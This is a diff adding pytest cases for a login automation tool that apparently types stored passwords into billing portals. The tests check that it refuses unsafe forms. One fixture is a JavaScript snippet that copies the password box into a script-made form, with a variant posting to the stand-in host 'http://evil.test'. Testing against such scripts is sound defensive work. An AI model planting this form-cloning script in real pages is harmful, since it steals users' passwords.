@@ -102,16 +102,19 @@ def test_a_password_is_not_typed_into_a_form_that_leads_elsewhere(
     assert (pages.passwords, report.password_submissions) == ([], 0)
 
 
+COPIES = """<script>const box = document.querySelector("[type=password]");
+const made = document.createElement("form");
+const seen = new MutationObserver(() => {
+  seen.disconnect();
+  made.append(box.cloneNode());
+  document.body.prepend(made);
+});
+seen.observe(box, {attributeFilter: ["MARK"]});</script>"""
+
+
 def test_a_password_is_not_typed_into_a_copy_of_its_box(pages: Pages, visitor: Visitor) -> None:
     """A script copies the box, with whatever we have put on it, into a form of its own."""
-    copy = """<script>const box = document.querySelector("[type=password]");
-    const made = document.createElement("form");
-    const seen = new MutationObserver(() => {
-      seen.disconnect();
-      made.append(box.cloneNode());
-      document.body.prepend(made);
-    });
-    seen.observe(box, {attributes: true});</script>"""
+    copy = COPIES.replace("MARK", "data-redrive-box")
     for form, code in (
         (copy, Code.NAVIGATION),
         (copy.replace('"form");', '"form"); made.action = "http://evil.test";'), Code.OTHER_SITE),
@@ -121,6 +124,15 @@ def test_a_password_is_not_typed_into_a_copy_of_its_box(pages: Pages, visitor: V
         assert report.code is code, report.error
         assert "Nothing was typed." in report.error
         assert (pages.passwords, report.password_submissions) == ([], 0)
+
+
+def test_a_box_copied_at_the_first_look_is_one_of_several(pages: Pages, visitor: Visitor) -> None:
+    copy = COPIES.replace("MARK", "data-redrive-form")
+    pages.portal(NO_BILLS, LOGIN_PAGE + copy.replace('"form");', '"form"); made.action = "/x";'))
+    report = visitor.visit()
+    assert report.code is None, report.error
+    assert (pages.passwords, report.password_submissions) == ([CANARY], 1)
+    assert "POST /site/login" in pages.asked
 
 
 def test_another_form_that_leads_nowhere_is_in_nobodys_way(pages: Pages, visitor: Visitor) -> None:
@@ -201,6 +213,50 @@ def test_a_mark_that_stood_there_before_proves_nothing(pages: Pages, visitor: Vi
     assert visitor.visit().code is None
 
 
+SPOKEN_OF = {
+    "faults": "<p>Fel på fakturan? Kontakta oss via e-post.</p>",
+    "works": "<p>Wartungsarbeiten am Sonntag von 2 bis 4 Uhr.</p>",
+    "codes": "<p>From May you must enter a verification code when you log in.</p>",
+    "a change of password": """<form><label>Current password <input type=password name=password>
+    </label><label>New password <input type=password name=new></label>
+    <button>Change password</button></form>""",
+}
+
+
+def be_let_in(visitor: Visitor, spoken: str) -> AttemptReport:
+    welcome = page(f"{LOG_OUT}<h1>Hello</h1>{SPOKEN_OF[spoken]}")
+    return answered(visitor.pages, visitor, welcome)
+
+
+@pytest.mark.parametrize("spoken", SPOKEN_OF)
+def test_a_home_page_may_speak_of_what_would_refuse_elsewhere(
+    together: Together, spoken: str
+) -> None:
+    report = together(be_let_in, SPOKEN_OF)[spoken].report
+    assert report.code is None, report.error
+
+
+def test_a_way_out_is_no_way_in_beside_a_box_or_a_dialog_that_refuses(
+    pages: Pages, visitor: Visitor
+) -> None:
+    refused = page(f"{LOG_OUT}<p>Wrong password</p>{LOGIN_PAGE}")
+    assert answered(pages, visitor, refused).code is Code.LOGIN_FAILED
+    alert = page(f"<script>alert('Wrong password')</script>{LOG_OUT}")
+    assert answered(pages, visitor, alert).code is Code.LOGIN_FAILED
+    wants = page(f"{LOG_OUT}<p>Enter the verification code</p><form><input name=code></form>")
+    assert answered(pages, visitor, wants).code is Code.OTP_NEEDED
+
+
+def test_works_that_are_announced_on_the_login_page_close_nothing(
+    pages: Pages, visitor: Visitor
+) -> None:
+    soon = "<p>My pages will be unavailable due to maintenance on Sunday.</p>"
+    pages.portal(NO_BILLS, soon + LOGIN_PAGE)
+    assert visitor.visit().code is None
+    pages.show("/login", soon)
+    assert visitor.visit().code is Code.MAINTENANCE
+
+
 def test_a_code_that_is_never_expected_can_be_switched_off(pages: Pages, visitor: Visitor) -> None:
     pages.portal("<p>Your account is locked (just a tip)</p>" + NO_BILLS)
     assert visitor.visit().code is Code.LOCKED
@@ -230,6 +286,21 @@ def test_a_page_without_a_form_names_the_field(pages: Pages, visitor: Visitor) -
     report = visitor.visit({"login": {"email": {"label": "User"}, "answer_seconds": 1}})
     assert (report.code, report.stage) == (Code.NAVIGATION, Stage.LOGIN)
     assert 'login.email: the page shows no label "User" (waited 1 s).' in report.error
+
+
+def test_a_page_without_a_form_says_what_may_explain_it(pages: Pages, visitor: Visitor) -> None:
+    elsewhere = pages.url.replace("127.0.0.1", "localhost")
+    script = f"<script src={elsewhere}/site/form.js></script>"
+    pages.show("/login", f"<h1>Logga in</h1><button>Mobilt BankID</button>{script}")
+    report = visitor.visit({"login": {"answer_seconds": 1}})
+    assert report.code is Code.NAVIGATION
+    assert "“Mobilt BankID”" in report.error
+    assert "in hosts: localhost." in report.error
+    pages.show("/login", f"<iframe src={elsewhere}/site/form></iframe>")
+    pages.show("/form", LOGIN_PAGE)
+    report = visitor.visit({"hosts": ["localhost"], "login": {"answer_seconds": 1}})
+    assert f"A frame of {elsewhere} is not told the password" in report.error
+    assert pages.passwords == []
 
 
 def test_the_caller_sees_each_stage_and_may_forbid_the_password(
